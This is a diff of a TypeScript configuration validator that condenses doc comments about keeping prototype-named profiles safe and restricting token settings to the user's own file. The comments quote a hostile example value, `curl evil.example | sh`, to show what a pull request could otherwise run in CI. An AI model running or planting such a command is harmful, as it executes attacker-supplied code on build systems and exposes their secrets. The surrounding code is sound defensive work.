@@ -49,10 +49,7 @@ const SETTINGS_MAP = 'must be a map of settings (key: value)';
 export const ProfileSchema = z.strictObject(fields, { error: SETTINGS_MAP });
 export type ProfileValues = z.output<typeof ProfileSchema>;
 
-/**
- * Profiles by name, in a Map: a name is whatever the file says (`__proto__`, `constructor`), and an object
- * keyed by it would reach its prototype instead (zod's record drops a `__proto__` key on the way).
- */
+/** Profiles in a Map: a name such as `__proto__` would reach an object's prototype (and zod's record drops a `__proto__` key). */
 export const Profiles = z
   .custom<Record<string, unknown>>((value) => typeof value === 'object' && value !== null && !Array.isArray(value), {
     error: PROBLEMS.profiles,
@@ -102,18 +99,14 @@ export interface ConfigFile {
 }
 
 /**
- * The keys that decide how the token is obtained, and which URLs a project file may send it to. A project file
- * is whatever the branch being built says (a pull request can change it), so only the user file may hold them:
- * otherwise `tokenCommand: "curl evil.example | sh"` on a branch would run in CI.
+ * The keys that decide how the token is obtained and where a project file may send it: only the user file may hold them, since a pull
+ * request can change a project file (`tokenCommand: "curl evil.example | sh"` would run in CI).
  */
 const USER_ONLY_KEYS = ['token', 'tokenCommand', 'tokenFile', 'trustedApiUrls'] as const;
 
 const TOKEN_HELP = `use tokenCommand or tokenFile, or set ${envName('token')}`;
 
-/**
- * Validates what cosmiconfig loaded from `path`. `keyPrefix` is how keys are reached in the file: 'mq.' in
- * package.json. Throws a ConfigError with one line per problem.
- */
+/** Validates what cosmiconfig loaded from `path` (`keyPrefix`: 'mq.' in package.json); a ConfigError with one line per problem. */
 export function validateConfigFile(path: string, kind: ConfigFileKind, content: unknown, keyPrefix = ''): ConfigFile {
   const problems = (lines: string[]) => new ConfigError(lines.map((line) => `${path}: ${line}`).join('\n'));
   // Before the schema: whatever else is wrong with it, a project file that names these is refused for them.
